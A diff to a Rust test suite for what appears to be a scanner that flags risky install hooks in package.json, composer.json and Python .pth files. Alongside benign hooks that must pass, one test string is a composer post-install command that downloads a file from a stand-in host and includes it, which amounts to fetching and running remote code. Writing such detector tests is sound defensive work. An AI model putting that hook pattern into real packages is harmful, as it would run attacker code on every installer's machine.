@@ -460,12 +460,27 @@ fn what_is_usual_or_asked_for_is_fine() {
         "pnpm -r --filter ./packages/** run build",
         "echo 'See https://a.example/start'",
         "git config core.hooksPath .githooks",
+        "./node_modules/.bin/husky",
+        "patch-package --error-on-fail",
     ] {
         let text = format!(
             "{{\"scripts\": {{\"postinstall\": \"{script}\", \"build\": \"vite build\"}}}}"
         );
         assert_eq!(found("package.json", &text), [], "{script}");
     }
+    for script in [
+        "@php -r \\\"if (!file_exists('.env')) copy('.env.example', '.env');\\\"",
+        "@php -r \\\"is_dir('a') || mkdir('a');\\\"",
+    ] {
+        let text = format!("{{\"scripts\": {{\"post-install-cmd\": \"{script}\"}}}}");
+        assert_eq!(found("composer.json", &text), [], "{script}");
+    }
+    let text = "{\"scripts\": {\"post-install-cmd\": \"@php -r \\\"copy('http://a', 'b'); include('b');\\\"\"}}";
+    assert_eq!(found("composer.json", text).len(), 1);
+    // Those of tests are in no folder that Python reads.
+    let mut all = Vec::new();
+    find("tests/a.pth", b"import os\n", Weight::Test, &mut all).unwrap();
+    assert!(all.len() == 1 && all.iter().all(|h| h.score < 4.0));
     // More commands than anyone reads take no time, and are as many findings as anyone reads.
     let many: Vec<String> = (0..50_000).map(|i| format!("\"c{i}\"")).collect();
     let text = format!("{{\"scripts\": {{\"postinstall\": [{}]}}}}", many.join(","));
